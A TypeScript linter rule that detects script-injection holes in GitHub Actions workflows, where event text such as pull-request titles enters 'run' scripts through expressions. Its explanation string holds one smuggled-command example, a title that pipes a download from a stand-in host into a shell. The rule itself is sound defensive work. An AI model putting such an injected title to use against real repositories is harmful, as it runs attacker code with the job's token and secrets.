/** Text that others write reaches scripts as data, never as part of the script. */
import { rule, type Expression, type NamedValue, type Problem, type WorkflowFact } from '../../rule.ts';
import { workflowName } from '../workflow-steps.ts';
import { controlOf, type Control } from '../attacker-text.ts';

/** Inputs of well-known actions whose text is run as a program. */
const scriptInputs = new Set(['script', 'inlinescript', 'run', 'command', 'commands', 'cmd']);

export const noTemplateInjection = rule({
  id: 'supply-chain/no-template-injection',
  title: 'Scripts take text from events through variables, not through expressions',
  severity: 'high',
  requirements: ['cd/DSEC-003', 'ph/IAM-009'],
  needs: ['repository.workflows'],
  why:
    'GitHub puts the text of an expression into the script before the shell reads it. A pull request titled ' +
    '`"; curl evil.test/x | sh #` then runs as a command, with the token, secrets and AWS role of the job.',
  fix: 'Put the expression into "env" of the step and use the variable, in quotes, in the script.',
  example: 'env:\n  TITLE: ${{ github.event.pull_request.title }}\nrun: echo "$TITLE"',
  link: 'https://docs.github.com/en/actions/concepts/security/script-injections',
  judge: (facts) => {
    const workflows = facts['repository.workflows'];
    if (workflows.length === 0) return { notApplicable: 'no GitHub workflow is here' };
    return workflows.flatMap((workflow) =>
      workflow.expressions.filter(isProgram).flatMap((expression) => judgeExpression(workflow, expression)),
    );
  },
});

function isProgram({ field, key }: Expression): boolean {
  return field === 'run' || (field === 'with' && key !== undefined && scriptInputs.has(key.toLowerCase()));
}

/** Functions that let no text through: their results are true, false or a hash. */
const tests = new Set(['contains', 'startswith', 'endswith', 'hashfiles', 'success', 'failure', 'always', 'cancelled']);

/** A comparison, or a call that only tests; with `&&` and `||` one of the operands comes through. */
function isTest({ text, functions }: Expression): boolean {
  if (/&&|\|\|/.test(text)) return false;
  return /[=!<>]=|[<>]/.test(text) || (functions.length > 0 && functions.every((name) => tests.has(name)));
}

function judgeExpression(workflow: WorkflowFact, expression: Expression): readonly Problem[] {
  if (isTest(expression)) return [];
  const found = expression.contexts
    .map((context) => ({ context, control: controlOf(context) ?? throughEnv(workflow, expression, context) }))
    .filter((entry): entry is { context: string; control: Control } => entry.control !== undefined)
    .filter(({ context }) => !isTyped(workflow, context));
  const worst = found.find(({ control }) => control === 'anyone') ?? found[0];
  if (worst === undefined) return [];
  const anyone = worst.control === 'anyone';
  return [
    {
      resource: workflowName(workflow),
      key: `${workflow.path} ${expression.job ?? ''} ${worst.context}`,
      locations: [expression.at],
      severity: anyone ? 'high' : 'low',
      message: anyone
        ? `In ${workflowName(workflow)} the script contains ${worst.context}, which anybody can write who opens an issue or pull request: commands in it run with the token and secrets of the job.`
        : `In ${workflowName(workflow)} the script contains ${worst.context}: whoever sets it can run commands with the token and secrets of the job.`,
    },
  ];
}

/** `env.X` in a script is put in as text too: what it was set from counts. */
function throughEnv(workflow: WorkflowFact, expression: Expression, context: string): Control | undefined {
  const name = /^env\.(.+)$/i.exec(context)?.[1]?.toLowerCase();
  if (name === undefined) return undefined;
  const job = workflow.jobs.find(({ id }) => id === expression.job);
  const step = expression.step === undefined ? undefined : job?.steps[expression.step];
  const set = (pairs: readonly NamedValue[] | undefined) => pairs?.find((pair) => pair.name.toLowerCase() === name);
  const value = (set(step?.env) ?? set(job?.env) ?? set(workflow.env))?.value ?? '';
  const contexts = [...value.matchAll(/\$\{\{(.*?)\}\}/gs)].flatMap(
    (match) => (match[1] ?? '').match(/[\w-]+(\.[\w*-]+)+/g) ?? [],
  );
  const controls = contexts.map(controlOf);
  return controls.includes('anyone') ? 'anyone' : controls.find((control) => control !== undefined);
}

/** An input of type boolean, number, choice or environment holds one of few texts. */
function isTyped(workflow: WorkflowFact, context: string): boolean {
  const name = /^(?:github\.event\.)?inputs\.([^.]+)$/.exec(context)?.[1];
  if (name === undefined) return false;
  const inputs = workflow.inputs.filter((input) => input.kind === 'input' && input.name.toLowerCase() === name);
  return inputs.length > 0 && inputs.every(({ type }) => type !== undefined && type !== 'string');
}
